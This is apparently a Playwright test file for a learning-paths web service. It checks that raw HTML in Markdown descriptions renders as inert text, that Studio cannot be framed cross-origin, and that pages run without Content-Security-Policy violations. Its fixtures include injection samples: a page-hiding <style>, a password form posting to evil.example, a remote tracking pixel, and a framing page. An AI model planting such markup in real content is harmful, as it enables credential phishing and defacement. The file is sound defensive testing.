// What the browser may do with the service's pages, in Chromium against the real server and demo:
// a description's raw HTML (a <style> hiding the page, a password form posting elsewhere) and its
// remote image come out as text and a link in Learn and in Studio's preview; a page on another
// origin cannot frame Studio with an admin signed in; Learn, Studio (a dialog too) and /api/docs
// work under the Content-Security-Policy without a single violation.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BrowserContext, Page } from 'playwright-core';
import { CompiledPaths, dataAccess, importPath, operatorActor } from '@learning-paths/server';
import { browserAvailable, screenshots, signIn, useBrowserTests } from './browser.ts';

const KEY = 'path-v1:DemoU+SAFE+2026+md';
const TITLE = 'Markdown, safely';
const STYLE = '<style>body{display:none}</style>';
const FORM = '<form action="https://evil.example/"><input type=password></form>';
const DESCRIPTION = [
  'What this path **teaches**.',
  STYLE,
  FORM,
  '![A remote picture](https://evil.example/pixel.png)',
].join('\n\n');

/** A context whose pages record every Content-Security-Policy violation, as events and as console errors. */
async function recordingContext(page: () => Promise<BrowserContext>): Promise<{
  context: BrowserContext;
  violations: string[];
}> {
  const context = await page();
  const violations: string[] = [];
  await context.exposeFunction('reportViolation', (violation: string) => violations.push(violation));
  await context.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (event) =>
      (window as unknown as { reportViolation: (text: string) => void }).reportViolation(
        `${location.pathname}: ${event.violatedDirective} ${event.blockedURI}`,
      ),
    ),
  );
  context.on('console', (message) => {
    if (message.text().includes('Content Security Policy')) violations.push(message.text());
  });
  // Nothing may reach the other origin; it is not asked, so the test depends on no network.
  await context.route('https://evil.example/**', (route) => {
    violations.push(`requested ${route.request().url()}`);
    return route.abort();
  });
  return { context, violations };
}

/** The live elements an author's raw HTML or remote image would have made, in the description. */
function liveIntrusions(page: Page, description: string): Promise<number> {
  return page.locator(description).locator('style, form, input, img[src*="evil.example"], link').count();
}

describe.runIf(browserAvailable())('the security of the pages in a browser', () => {
  const env = useBrowserTests({ demo: true });
  let other: Server;
  let otherOrigin: string;

  beforeAll(async () => {
    const data = dataAccess(env.server.store);
    await importPath({
      data,
      compiled: new CompiledPaths(),
      actor: operatorActor(),
      definition: {
        key: KEY,
        title: TITLE,
        description: DESCRIPTION,
        visibility: 'public',
        requirements: { id: 'intro', course: 'course-v1:DemoU+DS100+2026' },
      },
      publish: true,
      now: new Date().toISOString(),
    });
    // Another origin (another port): its page frames Studio.
    other = createServer((_request, response) =>
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end(
          `<!doctype html><title>Elsewhere</title><iframe src="${env.server.address}/studio/" onload="document.title = 'loaded'"></iframe>`,
        ),
    );
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
  });
  afterAll(() => new Promise<void>((resolve) => other.close(() => resolve())));

  it('shows raw HTML in a description as text and a remote image as a link, in Learn and in Studio', async () => {
    const { context, violations } = await recordingContext(() => env.browser.newContext());
    const page = await context.newPage();
    await signIn(page, env.server.address, 'learn', 'learner018');
    await page.getByRole('heading', { name: 'My Learning', level: 1 }).waitFor();
    await page.goto(`${env.server.address}/learn/paths/${encodeURIComponent(KEY)}`);
    const about = page.locator('.lp-description');
    await about.getByText('What this path teaches.').waitFor();
    expect(await liveIntrusions(page, '.lp-description')).toBe(0);
    expect(await about.getByText(STYLE).count()).toBe(1);
    expect(await about.getByRole('link', { name: 'A remote picture' }).getAttribute('href')).toBe(
      'https://evil.example/pixel.png',
    );
    expect(await page.locator('header.app-header').isVisible()).toBe(true);
    await screenshots(page, 'learn-description-raw-html');

    await page.getByRole('button', { name: 'Sign out' }).click();
    await signIn(page, env.server.address, 'studio', 'author');
    await page.getByRole('link', { name: TITLE, exact: true }).click();
    await page.getByRole('heading', { name: TITLE, level: 1 }).waitFor();
    await page.getByRole('button', { name: 'Preview', exact: true }).click();
    const preview = page.locator('.markdown-preview');
    await preview.getByText('What this path teaches.').waitFor();
    expect(await liveIntrusions(page, '.markdown-preview')).toBe(0);
    expect(await preview.getByText(FORM).count()).toBe(1);
    expect(violations).toEqual([]);
  });

  it('keeps a page on another origin from framing Studio, even with an admin signed in', async () => {
    const context = await env.browser.newContext();
    const page = await context.newPage();
    await signIn(page, env.server.address, 'studio', 'admin');
    await page.getByRole('button', { name: 'Sign out' }).waitFor();
    const refusals: string[] = [];
    page.on('console', (message) => refusals.push(message.text()));
    await page.goto(otherOrigin);
    await page.waitForFunction(() => document.title === 'loaded');
    const framed = page.frames().find((frame) => frame !== page.mainFrame())!;
    expect(framed.url()).not.toContain(env.server.address);
    expect(await framed.locator('body').textContent()).not.toContain('Sign out');
    expect(refusals.join('\n')).toContain("frame-ancestors 'none'");
  });

  it('runs Learn, Studio with a dialog open, and the API docs without a policy violation', async () => {
    const { context, violations } = await recordingContext(() => env.browser.newContext());
    const page = await context.newPage();
    await page.goto(`${env.server.address}/learn/`);
    await page.getByLabel('Username').waitFor();
    await signIn(page, env.server.address, 'studio', 'author');
    await page.getByRole('link', { name: 'Data Science Foundations', exact: true }).click();
    await page.getByRole('button', { name: 'Import file' }).click();
    await page.getByRole('dialog').waitFor();
    // The dialog locks the page's scrolling with a <style> element carrying the page's nonce.
    await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflow)).toBe('hidden');
    await page.keyboard.press('Escape');
    await page.goto(`${env.server.address}/api/docs/`);
    await page.locator('.opblock-summary').first().click();
    await page.locator('.opblock-body').first().waitFor();
    expect(violations).toEqual([]);
  });
});
